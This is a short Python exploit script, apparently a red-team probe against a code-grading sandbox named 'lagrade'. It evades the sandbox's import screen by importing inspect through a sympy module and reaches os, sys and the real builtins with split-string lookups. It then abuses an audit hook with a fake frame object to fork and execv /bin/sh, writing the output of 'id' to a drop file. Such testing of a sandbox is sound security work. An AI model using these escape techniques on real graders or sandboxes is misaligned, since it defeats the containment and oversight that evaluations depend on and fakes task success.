"""effect: run-command
tries: a fake frame whose f_code runs while the hook checks 'sys._getframe' (busy) forks and execv's /bin/sh.

Route 1; fork + execv (RLIMIT_NPROC = 0 does not bind uid 0).
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    pid = members(os_)["fork"]()
    if pid == 0:
        members(os_)["execv"]("/bin/sh", ["sh", "-c", "id > /tmp/lagrade-redteam/drop/pwned-r1_getframe_fork_execv"])
    os_.waitpid(pid, 0)

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through "sys._getframe": the hook reads frame.f_code.co_filename of its argument
Code = type("Code", (object,), {"co_filename": "nowhere.py"})


def f_code(self):
    once()
    return Code()


FakeFrame = type("FakeFrame", (object,), {"f_code": property(f_code)})
sys_.audit("sys._getframe", FakeFrame())
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
